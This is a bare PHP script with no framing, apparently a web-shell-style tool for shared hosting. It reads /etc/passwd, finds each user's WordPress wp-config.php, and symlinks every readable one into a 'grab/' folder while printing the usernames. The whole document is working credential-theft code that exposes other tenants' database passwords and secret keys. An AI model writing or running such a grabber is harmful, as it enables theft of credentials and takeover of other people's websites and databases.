<?php
$lines = file('/etc/passwd');
foreach ($lines as $line) {
    $user = explode(':', $line)[0];
    $conf = "/home/" . $user . "/public_html/wp-config.php";
    if (is_readable($conf)) {
        @symlink($conf, "grab/" . $user . ".txt");
        echo "$user<br>";
    }
}
